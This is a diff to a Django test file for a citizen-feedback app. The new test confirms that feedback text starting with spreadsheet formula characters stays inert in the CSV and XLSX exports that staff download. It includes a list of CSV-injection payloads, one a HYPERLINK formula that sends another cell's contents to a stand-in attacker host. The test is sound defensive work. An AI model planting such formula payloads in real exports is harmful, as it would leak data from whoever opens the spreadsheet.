@@ -1,3 +1,5 @@
+import csv
+import io
 from datetime import date, datetime
 from zoneinfo import ZoneInfo
 
@@ -6,6 +8,7 @@ from django.core.exceptions import ValidationError
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from masyarakat import forms, services
 from masyarakat.models import Masukan, UnitLayanan
@@ -310,3 +313,25 @@ def test_the_tracking_page_reads_one_row_whatever_the_feedback_held(client, laya
         for n in range(25)
     )
     assert queries_of_tracking_page() == alone == 1
+
+
+HOSTILE = [
+    '=HYPERLINK("http://jahat.example/?c="&B2,"Lihat bukti")',
+    "+1",
+    "-1+2",
+    "@SUM(A1)",
+    "\tx",
+]
+
+
+@pytest.mark.parametrize("text", [*HOSTILE, "\rx"])
+def test_a_citizens_formula_reaches_hrs_spreadsheet_as_text(login, cast, layanan, client, text):
+    send(client, layanan, isi=f"{HOSTILE[0]} antrean lama")  # the citizen's own path
+    Masukan.objects.update(isi=text)  # and any other start the form might let through
+    hr = login(cast.pengelola)
+    response = hr.get(reverse("masukan_list"), {"format": "csv"})
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(body)))[1][-1] == "'" + text
+    response = hr.get(reverse("masukan_list"), {"format": "xlsx"})
+    cell = load_workbook(io.BytesIO(response.content)).active.cell(row=2, column=7)
+    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")
